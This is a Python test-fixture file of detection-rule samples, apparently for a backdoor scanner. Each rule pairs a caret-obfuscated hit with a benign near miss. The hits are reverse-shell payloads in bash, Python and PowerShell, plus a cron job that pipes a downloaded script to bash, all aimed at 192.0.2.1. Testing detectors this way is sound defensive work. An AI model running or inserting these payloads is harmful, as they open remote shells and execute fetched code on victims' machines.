from rule_samples.building import Sample, text

SAMPLES = (
    Sample(
        rule="backdoor_shell_line",
        hit=text("ba^sh -i >& /dev/t^cp/192.0.2.1/4444 0>&1"),
        near_miss=text("bash -i -c 'echo /dev/tcp is a feature of bash'; nc -z host 22; timeout 1 bash -c '</dev/tcp/192.0.2.1/22'"),
    ),
    Sample(
        rule="backdoor_python_shell",
        hit=text("import socket,os,pty\ns=socket.soc^ket()\ns.connect(('192.0.2.1',4444))\nos.du^p2(s.fileno(),0)\npty.spa^wn('/bin/x')\n"),
        near_miss=text(
            "import socket,os\ns=socket.socket()\ns.connect(('192.0.2.1',80))\nos.dup2(log.fileno(),1)\nsubprocess.run(['ls'])\n"
        ),
    ),
    Sample(
        rule="backdoor_powershell_shell",
        hit=text(
            "$c = New-Object System.Net.Sock^ets.TCPClient('192.0.2.1',4444); $s = $c.Get^Stream(); $i = $s.Read($b,0,9); "
            "$o = ie^x $d; $s.Write($o,0,9)"
        ),
        near_miss=text(
            "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',80); $s = $c.GetStream(); $i = $s.Read($b,0,9); $s.Write($o,0,9)"
        ),
    ),
    Sample(
        rule="backdoor_cron_download",
        hit=text("*/5 * * * * root cu^rl -fsSL http://192.0.2.1/x.sh | ba^sh\n"),
        near_miss=text(
            "*/5 * * * * root curl -fsSL http://192.0.2.1/health | logger\nInstall with: wget -qO- https://example.org/list > out\n"
        ),
    ),
)
